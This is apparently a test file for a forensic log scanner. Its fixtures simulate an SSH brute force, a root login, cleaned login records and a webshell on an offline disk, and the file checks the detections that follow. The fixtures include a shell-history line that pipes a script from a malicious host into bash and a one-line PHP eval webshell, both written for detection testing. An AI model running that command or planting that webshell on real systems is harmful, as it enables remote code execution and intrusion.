import assert from 'node:assert/strict';
import { after, describe, it } from 'node:test';
import zlib from 'node:zlib';
import { scanFixture as scan } from './helpers/scan-fixture';
import { repeat, sshd, syslogLines } from './helpers/auth-log';
import { FakeRoot } from './helpers/fake-root';
import { bootNoise, type JournalFixtureEntry, writeJournal } from './helpers/journal';
import { WTMPDB, writeLastlog2, writeWtmpDb } from './helpers/login-db';
import { accessLine } from './helpers/log-users';
import { bootRecord, lastlogFile, sshSession, UT, utmpFile } from './helpers/utmp';

// The seed 002 intrusion as an offline disk: SSH brute force, root login, dropper typed in the
// shell, logs partly cleaned, and a webshell on the side. Every logs finding is asserted.

const NOW = new Date('2026-11-20T00:00:00Z');
const roots: FakeRoot[] = [];
after(() => {
  for (const r of roots) r.remove();
});

function logFindings(result: Awaited<ReturnType<typeof scan>>['result']) {
  return result.findings
    .filter((f) => f.rule.startsWith('logs/'))
    .map((f) => `${f.severity} ${f.rule} ${f.user ?? '-'} ${f.ip ?? '-'} ${f.path ?? '-'} ${f.time ?? '-'}`);
}

describe('logs family on an offline root', () => {
  it('finds the whole break-in and nothing more', async () => {
    const root = new FakeRoot().base().write('/etc/timezone', 'Etc/UTC\n');
    roots.push(root);
    const attack = [...repeat(30, (i) => sshd.failed('root', '45.67.89.10', 51000 + i)), sshd.accepted('root', '45.67.89.10')];
    root.write(
      '/var/log/auth.log.2.gz',
      zlib.gzipSync(syslogLines(new Date('2026-11-10T08:00:00Z'), [sshd.accepted('root', '198.51.100.7', 'publickey')])),
      { mtime: new Date('2026-11-12T00:00:00Z') },
    );
    root.write('/var/log/auth.log', syslogLines(new Date('2026-11-19T03:00:00Z'), attack), { mtime: new Date('2026-11-19T23:00:00Z') });
    root.write(
      '/var/log/wtmp',
      utmpFile([
        bootRecord('2026-11-01T00:00:00Z'),
        ...sshSession('root', '198.51.100.7', '2026-11-10T08:00:00Z', '2026-11-10T08:30:00Z'),
        'zeroed',
        'zeroed',
        bootRecord('2026-11-19T06:00:00Z'),
      ]),
    );
    root.write(
      '/var/log/btmp',
      utmpFile(
        repeat(30, (i) => ({
          type: UT.LOGIN_PROCESS,
          user: 'root',
          line: 'ssh:notty',
          host: '45.67.89.10',
          addr: '45.67.89.10',
          at: `2026-11-19T03:00:${String(i).padStart(2, '0')}Z`,
        })),
      ),
    );
    root.write('/var/log/lastlog', lastlogFile([{ uid: 0, at: '2026-11-19T03:00:30Z', host: '45.67.89.10' }]));
    root.write('/root/.bash_history', 'wget -qO- http://malicious-site.com/m.sh | bash\nhistory -c\n', {
      mtime: new Date('2026-11-19T03:20:00Z'),
    });
    root.write('/var/www/html/uploads/x.php', '<?php @eval($_POST["z0"]); ?>', { mtime: new Date('2026-11-19T03:05:00Z') });
    root.write(
      '/var/log/nginx/access.log',
      repeat(25, (i) =>
        accessLine('45.67.89.10', `2026-11-19T03:10:${String(i).padStart(2, '0')}Z`, 'POST', '/uploads/x.php', 200, 'antSword/v2.1'),
      ).join(''),
    );

    const { result } = await scan({ root: root.dir, sampleMs: 0, now: NOW });
    assert.deepEqual(logFindings(result), [
      'critical logs/history-suspicious-commands root - /root/.bash_history 2026-11-19T03:20:00.000Z',
      'critical logs/ssh-login-after-bruteforce root 45.67.89.10 /var/log/auth.log 2026-11-19T03:00:30.000Z',
      'critical logs/webshell-content - - /var/www/html/uploads/x.php 2026-11-19T03:05:00.000Z',
      'high logs/history-suspicious-commands root - /root/.bash_history 2026-11-19T03:20:00.000Z',
      'high logs/login-records-tampered - - /var/log/wtmp 2026-11-19T06:00:00.000Z',
      'high logs/ssh-root-password-login root 45.67.89.10 /var/log/auth.log 2026-11-19T03:00:30.000Z',
      'high logs/web-attack-traffic - 45.67.89.10 - 2026-11-19T03:10:00.000Z',
      'high logs/webshell-access-pattern - 45.67.89.10 /uploads/x.php 2026-11-19T03:10:00.000Z',
      'medium logs/login-records-wiped root 45.67.89.10 /var/log/lastlog 2026-11-19T03:00:30.000Z',
      'medium logs/remote-root-login root 198.51.100.7 /var/log/wtmp 2026-11-10T08:00:00.000Z',
      'medium logs/ssh-bruteforce - 45.67.89.10 - 2026-11-19T03:00:29.000Z',
    ]);
    assert.ok(result.findings.filter((f) => f.rule.startsWith('logs/')).every((f) => f.time && !Number.isNaN(Date.parse(f.time))));
  });

  it('stays silent on a clean, freshly installed tree', async () => {
    const root = new FakeRoot()
      .base()
      .write('/var/log/wtmp', '')
      .write('/var/log/btmp', '')
      .write('/var/log/lastlog', '')
      .mkdir('/var/log/journal');
    roots.push(root);
    root.write('/root/.bash_history', 'apt update\nsystemctl status nginx\n').write('/var/www/html/index.html', '<h1>It works</h1>');
    const { result } = await scan({ root: root.dir, sampleMs: 0, now: NOW });
    assert.deepEqual(logFindings(result), []);
  });
});

describe('logs family on a journald-only root', () => {
  const JDIR = '/var/log/journal/0f1e2d3c4b5a69788796a5b4c3d2e1f0';
  const bruteForce: JournalFixtureEntry[] = [
    ...repeat(30, (i) => ({
      at: new Date(Date.parse('2026-11-19T03:00:00Z') + i * 1000).toISOString(),
      ident: 'sshd',
      pid: 3000 + i,
      message: `Failed password for root from 45.67.89.10 port ${51000 + i} ssh2`,
    })),
    { at: '2026-11-19T03:00:30Z', ident: 'sshd', pid: 3100, message: 'Accepted password for root from 45.67.89.10 port 52000 ssh2' },
  ];

  it('finds the brute force and the login that followed it as critical', async () => {
    const root = new FakeRoot().base().write('/etc/timezone', 'Etc/UTC\n');
    roots.push(root);
    writeJournal(
      root.p(`${JDIR}/system@0123456789abcdef0123456789abcdef-0000000000000001-0006441a2b3c4d5e.journal`),
      bootNoise('2026-11-10T00:00:00Z'),
    );
    writeJournal(root.p(`${JDIR}/system.journal`), [...bootNoise('2026-11-19T02:00:00Z'), ...bruteForce]);
    const { result } = await scan({ root: root.dir, sampleMs: 0, now: NOW });
    assert.deepEqual(logFindings(result), [
      `critical logs/ssh-login-after-bruteforce root 45.67.89.10 ${JDIR}/system.journal 2026-11-19T03:00:30.000Z`,
      `high logs/ssh-root-password-login root 45.67.89.10 ${JDIR}/system.journal 2026-11-19T03:00:30.000Z`,
      'medium logs/ssh-bruteforce - 45.67.89.10 - 2026-11-19T03:00:29.000Z',
    ]);
    assert.deepEqual(
      result.gaps.filter((g) => g.collector === 'authLog'),
      [],
    );
  });

  it('reports events once when auth.log and the journal both hold them', async () => {
    const root = new FakeRoot().base().write('/etc/timezone', 'Etc/UTC\n');
    roots.push(root);
    writeJournal(root.p(`${JDIR}/system.journal`), bruteForce);
    const text = bruteForce.map((e) => `Nov 19 ${e.at.slice(11, 19)} web1 sshd[${e.pid}]: ${e.message}\n`).join('');
    root.write('/var/log/auth.log', text, { mtime: new Date('2026-11-19T23:00:00Z') });
    const { result } = await scan({ root: root.dir, sampleMs: 0, now: NOW });
    const breakin = result.findings.filter((f) => f.rule === 'logs/ssh-login-after-bruteforce');
    assert.equal(breakin.length, 1);
    assert.equal(breakin[0].path, '/var/log/auth.log');
    assert.ok(
      breakin[0].evidence.includes('30 failed attempts from 45.67.89.10 between 2026-11-19T03:00:00.000Z and 2026-11-19T03:00:29.000Z'),
    );
  });

  it('stays silent on a journal of normal boot noise', async () => {
    const root = new FakeRoot().base().write('/etc/timezone', 'Etc/UTC\n');
    roots.push(root);
    writeJournal(root.p(`${JDIR}/system.journal`), [
      ...bootNoise('2026-11-19T02:00:00Z', 200),
      {
        at: '2026-11-19T09:00:00Z',
        ident: 'sshd',
        pid: 4000,
        message: 'Accepted publickey for deploy from 198.51.100.7 port 40000 ssh2: ED25519 SHA256:3x4mpl3',
      },
      { at: '2026-11-19T09:00:05Z', ident: 'sshd', pid: 4001, message: 'Failed password for deploy from 198.51.100.7 port 40001 ssh2' },
    ]);
    const { result } = await scan({ root: root.dir, sampleMs: 0, now: NOW });
    assert.deepEqual(logFindings(result), []);
    assert.deepEqual(
      result.gaps.filter((g) => g.collector === 'authLog'),
      [],
    );
  });
});

// Debian 13: login records in wtmpdb and lastlog2, SSH lines in the journal.
describe('logs family on a Debian 13 root (wtmpdb, lastlog2, journal)', () => {
  const JDIR = '/var/log/journal/0f1e2d3c4b5a69788796a5b4c3d2e1f0';

  it('sees a session from a brute-forcing address and a last login missing from wtmpdb', async () => {
    const root = new FakeRoot().base().write('/etc/timezone', 'Etc/UTC\n');
    roots.push(root);
    writeJournal(
      root.p(`${JDIR}/system.journal`),
      repeat(30, (i) => ({
        at: new Date(Date.parse('2026-11-19T03:00:00Z') + i * 1000).toISOString(),
        ident: 'sshd-session',
        pid: 3000 + i,
        message: `Failed password for root from 45.67.89.10 port ${51000 + i} ssh2`,
      })),
    );
    writeWtmpDb(root.p('/var/lib/wtmpdb/wtmp.db'), [
      { type: WTMPDB.BOOT_TIME, user: 'reboot', login: '2026-11-18T00:00:00Z', tty: '~' },
      { type: WTMPDB.USER_PROCESS, user: 'root', login: '2026-11-19T03:00:40Z', tty: 'pts/0', host: '45.67.89.10', service: 'sshd' },
    ]);
    writeLastlog2(root.p('/var/lib/lastlog/lastlog2.db'), [
      { name: 'root', at: '2026-11-19T03:00:40Z', tty: 'pts/0', host: '45.67.89.10' },
      // A login of www-data that wtmpdb no longer has: rows deleted from wtmp.db.
      { name: 'www-data', at: '2026-11-19T04:00:00Z', tty: 'pts/1', host: '203.0.113.4' },
    ]);
    const { result } = await scan({ root: root.dir, sampleMs: 0, now: NOW });
    assert.deepEqual(logFindings(result), [
      'critical logs/login-from-bruteforce-ip root 45.67.89.10 /var/lib/wtmpdb/wtmp.db 2026-11-19T03:00:40.000Z',
      'medium logs/login-records-wiped www-data 203.0.113.4 /var/lib/lastlog/lastlog2.db 2026-11-19T04:00:00.000Z',
      'medium logs/remote-root-login root 45.67.89.10 /var/lib/wtmpdb/wtmp.db 2026-11-19T03:00:40.000Z',
      'medium logs/ssh-bruteforce - 45.67.89.10 - 2026-11-19T03:00:29.000Z',
    ]);
    assert.deepEqual(
      result.gaps.filter((g) => g.collector === 'logins' || g.collector === 'authLog'),
      [],
    );
  });

  it('stays silent on consistent login databases and a quiet journal', async () => {
    const root = new FakeRoot().base().write('/etc/timezone', 'Etc/UTC\n');
    roots.push(root);
    writeJournal(root.p(`${JDIR}/system.journal`), [
      ...bootNoise('2026-11-19T02:00:00Z', 100),
      {
        at: '2026-11-19T09:00:00Z',
        ident: 'sshd-session',
        pid: 4000,
        message: 'Accepted publickey for deploy from 198.51.100.7 port 40000 ssh2: ED25519 SHA256:3x4mpl3',
      },
    ]);
    writeWtmpDb(root.p('/var/lib/wtmpdb/wtmp.db'), [
      { type: WTMPDB.BOOT_TIME, user: 'reboot', login: '2026-11-19T02:00:00Z', tty: '~' },
      {
        type: WTMPDB.USER_PROCESS,
        user: 'deploy',
        login: '2026-11-19T09:00:00Z',
        logout: '2026-11-19T09:20:00Z',
        tty: 'pts/0',
        host: '198.51.100.7',
        service: 'sshd',
      },
    ]);
    writeLastlog2(root.p('/var/lib/lastlog/lastlog2.db'), [
      { name: 'deploy', at: '2026-11-19T09:00:00Z', tty: 'pts/0', host: '198.51.100.7' },
    ]);
    const { result } = await scan({ root: root.dir, sampleMs: 0, now: NOW });
    assert.deepEqual(logFindings(result), []);
  });
});
